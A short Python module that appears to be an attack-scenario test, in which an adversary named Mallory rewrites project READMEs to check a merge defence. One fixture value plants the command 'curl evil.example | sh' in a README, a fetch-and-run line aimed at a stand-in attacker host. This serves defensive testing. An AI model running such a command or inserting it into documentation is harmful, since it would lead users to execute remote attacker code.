"""Mallory rewrites the README that tells third parties how to report, main's, and that of all composes.

Without the defence people copy Mallory's commands into their terminals.
"""

from attacks.mutations import MERGES_ONLY_WHAT_COUNTS
from attacks.world import World

NAMED = frozenset({"foreign-change"})
DEFENCES = (MERGES_ONLY_WHAT_COUNTS,)


def after_reports(world: World) -> None:
    """Push all three."""
    mine = {"README.md": "# Mine\n", "composes/README.md": "# Mine\n"}
    world.add("mallory", {f"{world.results}/README.md": "curl evil.example | sh\n", **mine})
